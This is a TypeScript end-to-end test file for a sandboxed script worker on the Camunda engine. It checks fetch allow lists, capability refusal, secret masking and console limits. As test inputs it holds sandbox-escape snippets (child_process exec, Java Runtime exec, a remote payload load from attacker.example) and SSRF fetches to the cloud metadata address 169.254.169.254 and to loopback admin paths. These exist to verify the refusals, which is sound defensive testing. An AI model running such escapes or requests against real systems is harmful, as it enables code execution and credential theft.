// Issue 3 end to end: a script gets exactly the capabilities its policy
// grants; every other reach is refused, logged at warn and counted, caught or
// not; secrets never leave the task; console lines reach the worker log.
import { randomUUID } from 'node:crypto';
import http from 'node:http';
import type { AddressInfo } from 'node:net';

import { afterAll, beforeAll, describe, expect, it } from 'vitest';

import { externalTaskRows, InstanceTracker, processId, taskDone } from '../support/e2e.ts';
import {
  engine,
  runModel,
  startTestWorker,
  testPolicy,
  uniqueTopic,
  type LogEntry,
  type TestWorker,
} from '../support/worker.ts';

const BLOCKED = 'camunda_sandbox_blocked_calls_total';

/** The escape names of issue 3: Node's, then the JVM script engines'. */
const ESCAPES: [name: string, use: string][] = [
  ['require', "require('child_process').execSync('id')"],
  ['process', 'process.env.HOME'],
  ['Buffer', "Buffer.from('x')"],
  ['module', 'module.exports = {}'],
  ['global', 'global.process'],
  ['Java', "Java.type('java.lang.Runtime').getRuntime().exec('id')"],
  ['Packages', 'Packages.java.lang.System.getenv()'],
  ['java', "java.lang.System.getProperty('user.home')"],
  ['javax', 'new javax.script.ScriptEngineManager()'],
  ['load', "load('http://attacker.example/payload.js')"],
  ['loadWithNewGlobal', "loadWithNewGlobal({ script: 'this' })"],
  ['importPackage', "importPackage('java.io')"],
  ['Polyglot', "Polyglot.eval('python', 'import os')"],
];

interface TestServer {
  readonly server: http.Server;
  readonly port: number;
  readonly origin: string;
  readonly paths: string[];
}

async function serve(
  handler: (req: http.IncomingMessage, res: http.ServerResponse) => void,
): Promise<TestServer> {
  const paths: string[] = [];
  const server = http.createServer((req, res) => {
    paths.push(req.url ?? '');
    handler(req, res);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return { server, port, origin: `http://127.0.0.1:${port}`, paths };
}

function close(server: TestServer | undefined): Promise<void> {
  if (!server) return Promise.resolve();
  server.server.closeAllConnections();
  return new Promise((resolve) => server.server.close(() => resolve()));
}

/** blocked_calls_total of one topic, by capability label. */
function blockedByCapability(text: string, topic: string): Record<string, number> {
  const out: Record<string, number> = {};
  for (const line of text.split('\n')) {
    if (!line.startsWith(`${BLOCKED}{`) || !line.includes(`topic="${topic}"`)) continue;
    const capability = /capability="([^"]*)"/.exec(line)?.[1];
    if (capability !== undefined) out[capability] = Number(line.slice(line.lastIndexOf(' ') + 1));
  }
  return out;
}

/** What changed between two readings: only the labels whose count moved. */
function delta(
  before: Record<string, number>,
  after: Record<string, number>,
): Record<string, number> {
  const out: Record<string, number> = {};
  for (const [label, value] of Object.entries(after)) {
    const moved = value - (before[label] ?? 0);
    if (moved !== 0) out[label] = moved;
  }
  return out;
}

/** A script that tries `body` inside an async function and records how it ended in `outcome`. */
function attempt(body: string): string {
  return [
    '(async () => {',
    '  try {',
    `    ${body}`,
    "    execution.setVariable('outcome', 'allowed');",
    '  } catch (e) {',
    "    execution.setVariable('outcome', e.name + ': ' + e.message);",
    '  }',
    '})()',
  ].join('\n');
}

const topic = uniqueTopic('e2e-caps');
const policyName = `p-${topic}`;
const apiKey = `sk-live-${randomUUID()}`;
const dbPassword = `pw-${randomUUID()}`;

describe('capabilities, blocked calls and secrets against the real engine', () => {
  let worker: TestWorker;
  let api: TestServer;
  let internal: TestServer;
  let counter = 0;
  const instances = new InstanceTracker();

  beforeAll(async () => {
    // A public-looking API that the policy allows (it is on loopback, so it is named in allowPrivate)...
    api = await serve((req, res) => {
      if (req.url?.startsWith('/v1/orders/')) {
        res
          .writeHead(200, { 'content-type': 'application/json' })
          .end('{"status":"open","cents":9007199254740993}');
      } else if (req.url === '/v1/redirect-private') {
        res.writeHead(302, { location: `${internal.origin}/admin/keys` }).end();
      } else if (req.url === '/v1/redirect-metadata') {
        res.writeHead(302, { location: 'http://169.254.169.254/latest/meta-data/iam/' }).end();
      } else {
        res.writeHead(404).end();
      }
    });
    // ...and an internal service on loopback that no fetch may reach.
    internal = await serve((_req, res) => res.writeHead(200).end('internal admin data'));

    // The worker's executors inherit the environment at start.
    process.env['SANDBOX_SECRET_API_KEY'] = apiKey;
    process.env['SANDBOX_SECRET_DB_PASSWORD'] = dbPassword;

    worker = await startTestWorker({
      policies: [
        testPolicy(topic, {
          // Retries are granted, so an incident at once shows the policy violation, not the policy.
          retries: { count: 1, backoffMs: 600_000 },
          capabilities: {
            console: { maxLines: 3, maxBytes: 4096 },
            fetch: {
              allow: [
                { origin: api.origin, pathPrefixes: ['/v1/'], methods: ['GET'] },
                // Origins in the allow list whose addresses are private and not named:
                { origin: internal.origin },
                { origin: `http://localhost:${internal.port}` },
                { origin: 'http://169.254.169.254' },
              ],
              allowPrivate: [`127.0.0.1:${api.port}`],
              timeoutMs: 5000,
              maxCalls: 5,
            },
            secrets: { allow: ['API_KEY'] },
          },
        }),
      ],
    });
  });

  afterAll(async () => {
    await worker?.stop();
    await instances.cleanup();
    await Promise.all([close(api), close(internal)]);
    delete process.env['SANDBOX_SECRET_API_KEY'];
    delete process.env['SANDBOX_SECRET_DB_PASSWORD'];
  });

  /** Runs one script on the topic; returns the instance id. */
  async function run(script: string): Promise<string> {
    counter += 1;
    return instances.track(
      await runModel({
        id: processId(topic, `cap${counter}`),
        step: { kind: 'sandbox', topic, script },
      }),
    );
  }

  async function blocked(): Promise<Record<string, number>> {
    return blockedByCapability(await worker.metrics(), topic);
  }

  function warnings(taskId: string): LogEntry[] {
    return worker.logs.filter(
      (l) => l.level === 'warn' && l.msg === 'blocked call' && l['taskId'] === taskId,
    );
  }

  /** Runs a script that catches its refusal; returns the refusal text, the blocked-call delta and the warn lines. */
  async function refusedAndCaught(body: string) {
    const before = await blocked();
    const id = await run(attempt(body));
    expect(await engine.settle(id, 60_000)).toBe('completed');
    const done = await taskDone(worker, id);
    expect(done['outcome']).toBe('completed');
    const outcome = (await engine.historicVariables(id))['outcome'];
    return {
      id,
      outcome: String(outcome?.value),
      moved: delta(before, await blocked()),
      warns: warnings(String(done['taskId'])),
      done,
    };
  }

  describe('fetch', () => {
    it('fetches from an allowed local server and puts the body in a variable', async () => {
      const before = await blocked();
      const script = [
        '(async () => {',
        `  const response = await fetch('${api.origin}/v1/orders/7?expand=lines');`,
        "  execution.setVariable('status', response.status);",
        "  execution.setVariable('contentType', response.headers.get('content-type'));",
        "  execution.setVariable('body', await response.text());",
        '})()',
      ].join('\n');
      const id = await run(script);
      expect(await engine.settle(id, 60_000)).toBe('completed');
      const v = await engine.historicVariables(id);
      expect(v['status']).toEqual({ type: 'Integer', value: 200 });
      expect(v['contentType']).toEqual({ type: 'String', value: 'application/json' });
      expect(v['body']).toEqual({
        type: 'String',
        value: '{"status":"open","cents":9007199254740993}',
      });
      expect(api.paths).toContain('/v1/orders/7?expand=lines');
      await taskDone(worker, id);
      expect(delta(before, await blocked())).toEqual({});
    });

    it('refuses a fetch to 127.0.0.1 on a port not named in allowPrivate, and counts it', async () => {
      const r = await refusedAndCaught(`await fetch('${internal.origin}/admin/keys');`);
      expect(r.outcome).toMatch(
        /^SandboxPolicyError: fetch .*refused: 127\.0\.0\.1 is a loopback address/,
      );
      expect(r.moved).toEqual({ fetch: 1 });
      expect(r.warns).toEqual([
        expect.objectContaining({ capability: 'fetch', taskId: r.done['taskId'] }),
      ]);
      expect(internal.paths).toEqual([]);
    });

    it('refuses a fetch to localhost, judged on the loopback address it resolves to, and counts it', async () => {
      const r = await refusedAndCaught(
        `await fetch('http://localhost:${internal.port}/admin/keys');`,
      );
      expect(r.outcome).toMatch(
        /^SandboxPolicyError: fetch .*refused: localhost resolves to .*loopback address/,
      );
      expect(r.moved).toEqual({ fetch: 1 });
      expect(r.warns).toEqual([
        expect.objectContaining({ capability: 'fetch', taskId: r.done['taskId'] }),
      ]);
      expect(internal.paths).toEqual([]);
    });

    it('refuses a fetch to the cloud metadata address 169.254.169.254, and counts it', async () => {
      const r = await refusedAndCaught(
        "await fetch('http://169.254.169.254/latest/meta-data/iam/');",
      );
      expect(r.outcome).toMatch(
        /^SandboxPolicyError: fetch .*refused: 169\.254\.169\.254 is a cloud metadata address/,
      );
      expect(r.moved).toEqual({ fetch: 1 });
      expect(r.warns).toEqual([
        expect.objectContaining({ capability: 'fetch', taskId: r.done['taskId'] }),
      ]);
    });

    it('refuses a redirect from the allowed server to a private address, and counts it', async () => {
      const r = await refusedAndCaught(`await fetch('${api.origin}/v1/redirect-private');`);
      expect(r.outcome).toMatch(
        /^SandboxPolicyError: fetch redirect to .*refused: 127\.0\.0\.1 is a loopback address/,
      );
      expect(api.paths).toContain('/v1/redirect-private');
      expect(internal.paths).toEqual([]);
      expect(r.moved).toEqual({ fetch: 1 });
      expect(r.warns).toEqual([
        expect.objectContaining({ capability: 'fetch', taskId: r.done['taskId'] }),
      ]);
    });

    it('refuses a redirect from the allowed server to the metadata address, and counts it', async () => {
      const r = await refusedAndCaught(`await fetch('${api.origin}/v1/redirect-metadata');`);
      expect(r.outcome).toMatch(
        /^SandboxPolicyError: fetch redirect to .*refused: 169\.254\.169\.254 is a cloud metadata address/,
      );
      expect(r.moved).toEqual({ fetch: 1 });
    });

    it('opens an incident at once for a refused fetch the script does not catch', async () => {
      const before = await blocked();
      const id = await run(
        "(async () => { await fetch('http://169.254.169.254/latest/meta-data/'); })()",
      );
      expect(await engine.settle(id, 60_000)).toBe('incident');
      const [incident] = await engine.incidents(id);
      expect(incident?.incidentMessage).toMatch(/^SandboxPolicyError: fetch .*refused/);
      expect((await externalTaskRows(id))[0]?.retries).toBe(0);
      expect((await taskDone(worker, id))['outcome']).toBe('policy_violation');
      expect(delta(before, await blocked())).toEqual({ fetch: 1 });
    });
  });

  describe('capabilities the policy does not grant', () => {
    it('refuses crypto, which the policy does not grant, and counts it under crypto', async () => {
      const r = await refusedAndCaught('crypto.randomUUID();');
      expect(r.outcome).toBe(
        `SandboxPolicyError: crypto is not available in the sandbox: policy '${policyName}' does not grant capability 'crypto'`,
      );
      expect(r.moved).toEqual({ crypto: 1 });
      expect(r.warns).toEqual([
        expect.objectContaining({ capability: 'crypto', taskId: r.done['taskId'] }),
      ]);
    });

    it('opens an incident with a policy violation when the script does not catch the refusal', async () => {
      const before = await blocked();
      const id = await run("const id = crypto.randomUUID();\nexecution.setVariable('id', id);");
      expect(await engine.settle(id, 60_000)).toBe('incident');
      const [incident] = await engine.incidents(id);
      expect(incident?.incidentMessage).toBe(
        `SandboxPolicyError: crypto is not available in the sandbox: policy '${policyName}' does not grant capability 'crypto'`,
      );
      expect((await externalTaskRows(id))[0]?.retries).toBe(0);
      expect((await taskDone(worker, id))['outcome']).toBe('policy_violation');
      expect(delta(before, await blocked())).toEqual({ crypto: 1 });
    });
  });

  describe('escape names', () => {
    it.each(ESCAPES)(
      'refuses %s, counts it under its own name, logs it at warn and opens an incident when uncaught',
      async (name, use) => {
        const before = await blocked();
        const id = await run(`${use};\nexecution.setVariable('escaped', true);`);
        expect(await engine.settle(id, 60_000)).toBe('incident');
        const [incident] = await engine.incidents(id);
        expect(incident?.incidentMessage).toMatch(
          new RegExp(`^SandboxPolicyError: ${name} is not available in the sandbox`),
        );
        expect((await externalTaskRows(id))[0]?.retries).toBe(0);
        const done = await taskDone(worker, id);
        expect(done['outcome']).toBe('policy_violation');
        expect(delta(before, await blocked())).toEqual({ [name]: 1 });
        expect(warnings(String(done['taskId']))).toEqual([
          expect.objectContaining({
            capability: name,
            taskId: done['taskId'],
            topic,
            policy: policyName,
          }),
        ]);
      },
    );

    it('lets a script catch every escape attempt and complete, counting each one', async () => {
      const tries = ESCAPES.map(
        ([name, use]) =>
          `  try { ${use}; caught.push('${name}:escaped'); } catch (e) { caught.push('${name}:' + e.name); }`,
      );
      const script = [
        'const caught = [];',
        ...tries,
        "execution.setVariable('caught', caught.join(','));",
      ].join('\n');
      const before = await blocked();
      const id = await run(script);
      expect(await engine.settle(id, 60_000)).toBe('completed');
      const caught = String((await engine.historicVariables(id))['caught']?.value).split(',');
      expect(caught).toEqual(ESCAPES.map(([name]) => `${name}:SandboxPolicyError`));
      const done = await taskDone(worker, id);
      expect(done['outcome']).toBe('completed');
      expect(done['blockedCalls']).toBe(ESCAPES.length);
      expect(delta(before, await blocked())).toEqual(
        Object.fromEntries(ESCAPES.map(([name]) => [name, 1])),
      );
      expect(warnings(String(done['taskId'])).map((l) => l['capability'])).toEqual(
        ESCAPES.map(([name]) => name),
      );
    });
  });

  describe('secrets', () => {
    it('hands an allowed secret to the script, and its value appears in no log line', async () => {
      const script = [
        "const key = secrets.get('API_KEY');",
        "console.log('calling the API with key ' + key);",
        "execution.setVariable('keyLength', key.length);",
        "execution.setVariable('keyKind', key.slice(0, 8));",
      ].join('\n');
      const id = await run(script);
      expect(await engine.settle(id, 60_000)).toBe('completed');
      const v = await engine.historicVariables(id);
      expect(v['keyLength']).toEqual({ type: 'Integer', value: apiKey.length });
      expect(v['keyKind']).toEqual({ type: 'String', value: 'sk-live-' });
      const done = await taskDone(worker, id);
      const consoleLines = worker.logs.filter(
        (l) => l['source'] === 'script' && l['taskId'] === done['taskId'],
      );
      expect(consoleLines.map((l) => l.msg)).toEqual(['calling the API with key [secret:API_KEY]']);
      expect(worker.rawLog()).not.toContain(apiKey);
    });

    it('refuses a secret the policy does not allow, and counts it under secrets', async () => {
      const r = await refusedAndCaught(
        "execution.setVariable('leak', secrets.get('DB_PASSWORD'));",
      );
      expect(r.outcome).toBe(
        "SandboxPolicyError: secret 'DB_PASSWORD' is not in the policy's allow list",
      );
      expect(r.moved).toEqual({ secrets: 1 });
      expect(r.warns).toEqual([
        expect.objectContaining({ capability: 'secrets', taskId: r.done['taskId'] }),
      ]);
      expect(Object.keys(await engine.historicVariables(r.id))).not.toContain('leak');
      expect(worker.rawLog()).not.toContain(dbPassword);
    });

    it('keeps a secret out of the failure message and details stored in the engine, the logs and the metrics', async () => {
      const script = [
        "const key = secrets.get('API_KEY');",
        'function call() {',
        "  throw new Error('upstream refused key ' + key);",
        '}',
        'call();',
      ].join('\n');
      const id = await run(script);
      const done = await taskDone(worker, id);
      expect(done['outcome']).toBe('failed');
      // The task now waits 10 minutes for its retry (the tracker deletes it at the end).
      const [task] = await externalTaskRows(id);
      expect(task?.retries).toBe(1);
      expect(task?.errorMessage).toBe('Error: upstream refused key [secret:API_KEY]');
      const details = await engine.errorDetails(task!.id);
      expect(details).toContain('Error: upstream refused key [secret:API_KEY]');
      expect(details).toMatch(/at call \(step\.js:3:\d+\)/);
      for (const text of [task?.errorMessage, details, worker.rawLog(), await worker.metrics()]) {
        expect(text).not.toContain(apiKey);
        expect(text).not.toContain(dbPassword);
      }
    });
  });

  describe('console', () => {
    it('writes console lines to the worker log with the task id, bounded by maxLines', async () => {
      const script = [
        "console.log('line 1');",
        "console.info('line 2', { n: 2 });",
        "console.warn('line 3');",
        "console.error('line 4');",
        "console.log('line 5');",
      ].join('\n');
      const id = await run(script);
      expect(await engine.settle(id, 60_000)).toBe('completed');
      const done = await taskDone(worker, id);
      const lines = worker.logs
        .filter((l) => l['source'] === 'script' && l['taskId'] === done['taskId'])
        .map((l) => ({ level: l.level, msg: l.msg, processInstanceId: l['processInstanceId'] }));
      expect(lines).toEqual([
        { level: 'info', msg: 'line 1', processInstanceId: id },
        { level: 'info', msg: 'line 2 {"n":2}', processInstanceId: id },
        { level: 'warn', msg: 'line 3', processInstanceId: id },
        {
          level: 'warn',
          msg: '[console output truncated at 3 lines / 4096 bytes]',
          processInstanceId: id,
        },
      ]);
    });
  });
});
